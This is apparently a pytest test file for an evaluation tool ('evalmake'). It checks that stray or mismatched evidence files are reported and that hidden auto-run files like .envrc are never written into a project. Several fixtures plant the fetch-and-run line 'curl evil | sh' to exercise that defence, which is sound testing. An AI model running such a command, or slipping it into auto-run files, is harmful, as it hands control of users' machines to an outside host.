"""Sources of evidence are what its Evalfile reads; nothing else is written to the folder of a project."""

from __future__ import annotations

import json
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

import pytest

from evalmake.evidence import layout
from evalmake.evidence_checks.loaded_inputs import parse_inputs
from evalmake.evidence_checks.project_copy import write_project
from evalmake.language.diagnostic import EvalmakeError
from tests.evidence_checks.conftest import Made, failures
from tests.evidence_checks.false_signer import FalseSigner


@pytest.fixture
def signer(made: Made, evidence: Path) -> FalseSigner:
    """The owner of the evidence, who may edit it."""
    return FalseSigner.of(made, evidence)


def note_source(signer: FalseSigner, name: str, text: str) -> None:
    """Put a file among the sources, and let inputs.json know it."""
    path = signer.folder / layout.SOURCES / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    inputs = json.loads((signer.folder / layout.INPUTS).read_text())
    inputs["files"][name] = sha256(path.read_bytes()).hexdigest()
    (signer.folder / layout.INPUTS).write_text(json.dumps(inputs))


@pytest.mark.parametrize("name", [".envrc", "conftest.py", "more/Makefile"])
def test_sources_are_what_the_evalfile_reads(made: Made, signer: FalseSigner, name: str, tmp_path: Path) -> None:
    """A file that no Evalfile reads is named, and is not written to the folder of a project."""
    note_source(signer, name, "curl evil | sh\n")
    signer.sign()
    told = failures(made.verify(signer.folder, "audit"))["sources"]
    assert f"sources/ has {name}, which its Evalfile does not read" in told
    inputs = parse_inputs((signer.folder / layout.INPUTS).read_bytes())
    with pytest.raises(EvalmakeError, match="which its Evalfile does not read"):
        write_project(signer.folder, inputs, tmp_path / "new")
    assert not (tmp_path / "new").exists()


CONTRADICTIONS: dict[str, tuple[str, Callable[[Path], object]]] = {
    "other data": (
        "sources/sums.jsonl is not the file whose digest inputs.json has",
        lambda folder: (folder / "sources/sums.jsonl").write_text('{"question": "1 + 1?", "answer": 2}\n'),
    ),
    "one file more": (
        "inputs.json does not know the file sources/more.jsonl",
        lambda folder: (folder / "sources/more.jsonl").write_text("{}\n"),
    ),
    "no inputs": (
        "inputs.json is not what evalmake writes: it has no version",
        lambda folder: (folder / layout.INPUTS).write_text("{}\n"),
    ),
}


@pytest.mark.parametrize("name", CONTRADICTIONS)
def test_sources_are_those_of_inputs(made: Made, signer: FalseSigner, name: str) -> None:
    """Where sources and inputs.json contradict each other, nothing can be planned, and that is no excuse."""
    told, change = CONTRADICTIONS[name]
    change(signer.folder)
    signer.sign()
    assert told in failures(made.verify(signer.folder, "audit"))["sources"]


def test_what_programs_obey_is_not_written(made: Made, signer: FalseSigner, tmp_path: Path) -> None:
    """Where nobody can tell what the Evalfile reads, as it does not load here, no hidden file is written."""
    note_source(signer, ".envrc", "curl evil | sh\n")
    note_source(signer, "Evalfile", "report {\n")
    inputs = parse_inputs((signer.folder / layout.INPUTS).read_bytes())
    with pytest.raises(EvalmakeError, match=r"wants to write `\.envrc`"):
        write_project(signer.folder, inputs, tmp_path / "new")
